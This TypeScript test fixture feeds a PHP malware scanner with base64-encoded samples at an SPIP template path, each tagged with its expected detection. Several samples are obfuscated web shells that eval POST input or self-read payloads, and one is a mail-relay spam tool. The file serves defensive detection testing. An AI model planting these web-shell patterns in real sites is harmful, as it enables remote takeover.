import type { Sample } from '../types.ts'

/** Files that read themselves, that are packed as vendors do, and that nobody can read. */
export const packedSamples: readonly Sample[] = [
  {
    name: 'a file that reads itself, and runs what lies behind its code',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGggPSBmb3BlbihfX0ZJTEVfXywgInJiIik7IGZyZWFkKCRoLCAxMzEpOyAkdCA9IGJhc2U2NF9kZWNvZGUoc3RydHIoZnJlYWQoJGgsICAzNiksICJaeiIsICJ6WiIpKTsgZXZhbCgkdCk7IHJldHVybjsgPz5KR01nUFNBa1gxQlBVMVJiSW1zaVhUc2d6WHpoYkNna1l5azc=',
    expect: ['php-hidden-code', 'php-request-code'],
  },
  {
    name: 'data behind the code, by where the code ends',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGQgPSBmaWxlX2dldF9jb250ZW50cyhfX0ZJTEVfXywgZmFsc2UsIG51bGwsIF9fQ09NUElMRVJfSEFMVF9PRkZTRVRfXyk7IGV2YWwoZ3ppbmZsYXRlKGJhc2U2NF9kZWNvZGUoJGQpKSk7IF9faGFsdF9jb21waWxlcigpO1U2bFFzRlZRaVE5eURReDFEUTZKVmlwVWlyVldTQ3d1VGkwcTBWQ3AwTFFHQUE9PQ==',
    expect: ['php-hidden-code', 'php-request-code'],
  },
  {
    name: 'a module that its vendor packed, twice',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgLyogKGMpIHZlbmRvciAqLyBldmFsKGd6aW5mbGF0ZShiYXNlNjRfZGVjb2RlKCJCY0hkbGtKQUFBRGdkK2txeDRYVUtzNmVMc29hWnBDZi9OWE5IbU1tS21RWkdUMzlmaDk5NS9XeS9OemJXNTB6dXNUNVFMZGZ2NFFXTDBLWEMvOHljVjJGRTRDUk5GZkd6R0JmWm1OM0JsT1JXU0YzSWlEaHdKQjF0YlIxelJHeFBEcXJIZHNRc3VuT0xvV2l4elNhWFlzbUxaWFRMbDd4a2lndVkrODdmOFdNSHdyUjAvRkpOc3kxMTQ0dkdDTXpQS1MzdHZQRExmSVRqRDRnY0dZWEVCczhudmIxRXJhUlBmbVczbTVvWXZVR3FCUnZ6SGhGaC9SZXdiOEFqWU0wNUpyRVdiZDlIbXZ6MDhjRVFiWHBHL3pBcG1nT2E1VG9SOUZGTlVpYm93bmozVTgvKzQ2WFRmdjlRaENFNzM4PSIpKSk7',
    expect: ['php-encoded'],
  },
  {
    name: 'a packed class that runs what is sent',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZXZhbChnemluZmxhdGUoYmFzZTY0X2RlY29kZSgiUzg1SkxDNVdDTTdJTDRnUFNpeEpWYWhXU0N2TlN5N0p6TTlUS0NyTjA5QUVDcWhVS05ncXFNUUgrQWVIUkN0VktjVmFLNlNXSmVab3FGUm9XaXZVQXFGS0VWQStMN1VjWVlvR1VFYWxTTmNPYklJMUFBPT0iKSkpOw==',
    expect: ['php-hidden-code', 'php-request-code'],
  },
  {
    name: 'a name that is unpacked while it is called',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gZCgkcywgJGspIHsgJHIgPSAiIjsgJGsgPSBtZDUoJGspOyBmb3IgKCRpID0gMDsgJGkgPCBzdHJsZW4oJHMpOyAkaSA9ICRpICsgMikgeyBpZiAoaXNfbnVtZXJpYyhzdWJzdHIoJGssIDAsIDEpKSB8fCB0cnVlKSB7ICRyIC49IGNocihoZXhkZWMoc3Vic3RyKCRzLCAkaSwgMikpIC0gMSk7IH0gfSByZXR1cm4gJHI7IH0gKEAkXyA9IGQoIjYyNzQ3NDY2NzM3NSIsICI3IikpIC4gQCRfKCRfUE9TVFsiYyJdKTs=',
    expect: ['php-hidden-call', 'php-request-code'],
  },
  {
    name: 'a program in C, packed',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGMgPSAiSTJsdVkyeDFaR1VnUEhOMFpHbHZMbWcrQ2lOcGJtTnNkV1JsSUR4emVYTXZjMjlqYTJWMExtZytDbWx1ZENCdFlXbHVLQ2tnZXlCcGJuUWdjeUE5SUhOdlkydGxkQ2d5TENBeExDQXdLVHNnY21WMGRYSnVJSE03SUgwSyI7IHB1dCgiL3RtcC9jLmMiLCBiYXNlNjRfZGVjb2RlKCRjKSk7',
    expect: ['php-hidden-text'],
  },
  {
    name: 'talks to mail servers for whoever asks',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gc2F5KCRzLCAkbCkgeyBmcHV0cygkcywgJGwgLiAiXHJcbiIpOyByZXR1cm4gZmdldHMoJHMpOyB9IGZvcmVhY2ggKCRfUE9TVCBhcyAkdikgeyAkZCA9IGV4cGxvZGUoInwiLCBiYXNlNjRfZGVjb2RlKGJhc2U2NF9kZWNvZGUoJHYpKSk7IH0gJHMgPSBmc29ja29wZW4oJG14LCAyNSk7IHNheSgkcywgIk1BSUwgRlJPTTo8YUBleGFtcGxlLm5ldD4iKTsgc2F5KCRzLCAiUkNQVCBUTzo8IiAuICRkWzBdIC4gIj4iKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'names of bytes that are no letters',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJI2Qgf+dID0gJJ2NgYGBIC4gIngiIC4gJIGNoaGQOyAknY2BgYEgPSAknaGQ/v4gLiAieCIgLiAkkP6N/oE7ICSdoZD+/iA9ICSBjaGhkCAuICJ4IiAuICSQjYH+/zsgJIGNoaGQID0gJJD+jf6BIC4gIngiIC4gJP6Q/pCNOyAkkP6N/oEgPSAkkI2B/v8gLiAieCIgLiAkjZCQ//47ICSQjYH+/yA9ICT+kP6QjSAuICJ4IiAuICSNkIH/nTsgJP6Q/pCNID0gJI2QkP/+IC4gIngiIC4gJJ2NgYGBOyAkjZCQ//4gPSAkjZCB/50gLiAieCIgLiAknaGQ/v47ICSNkIH/nSA9ICSdjYGBgSAuICJ4IiAuICSBjaGhkDsgJJ2NgYGBID0gJJ2hkP7+IC4gIngiIC4gJJD+jf6BOyAknaGQ/v4gPSAkgY2hoZAgLiAieCIgLiAkkI2B/v87ICSBjaGhkCA9ICSQ/o3+gSAuICJ4IiAuICT+kP6QjTsgYmFzZTY0X2RlY29kZSgkjZCB/50pOw==',
    expect: ['php-unreadable'],
  },
  {
    name: 'a file that asks where it is',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJGQgPSBkaXJuYW1lKF9fRklMRV9fKTsgJG4gPSBiYXNlbmFtZShfX0ZJTEVfXywgIi5waHAiKTsgaWYgKHN1YnN0cihfX0ZJTEVfXywgLTQpID09PSAiLnBocCIpIHsgJGYgPSBmb3BlbigkZCAuICIvbGFuZy50eHQiLCAiciIpOyAkbCA9IGZnZXRzKCRmKTsgfSBlY2hvIGJhc2U2NF9kZWNvZGUoIllXSmoiKTs=',
    expect: [],
  },
  {
    name: 'names in another alphabet',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJMOpID0gMTsgJMOpdMOpID0gJMOpIC4gIngiIC4gJMOpOyAkw6l0w6kgPSAkw6l0w6kgLiAiMCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxIiAuICTDqTsgJMOpdMOpID0gJMOpdMOpIC4gIjIiIC4gJMOpOyAkw6l0w6kgPSAkw6l0w6kgLiAiMyIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICI0IiAuICTDqTsgJMOpdMOpID0gJMOpdMOpIC4gIjUiIC4gJMOpOyAkw6l0w6kgPSAkw6l0w6kgLiAiNiIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICI3IiAuICTDqTsgJMOpdMOpID0gJMOpdMOpIC4gIjgiIC4gJMOpOyAkw6l0w6kgPSAkw6l0w6kgLiAiOSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxMCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxMSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxMiIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxMyIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxNCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxNSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxNiIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxNyIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxOCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIxOSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyMCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyMSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyMiIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyMyIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyNCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyNSIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyNiIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyNyIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyOCIgLiAkw6k7ICTDqXTDqSA9ICTDqXTDqSAuICIyOSIgLiAkw6k7IGVjaG8gYmFzZTY0X2RlY29kZSgkw6l0w6kpOw==',
    expect: [],
  },
]
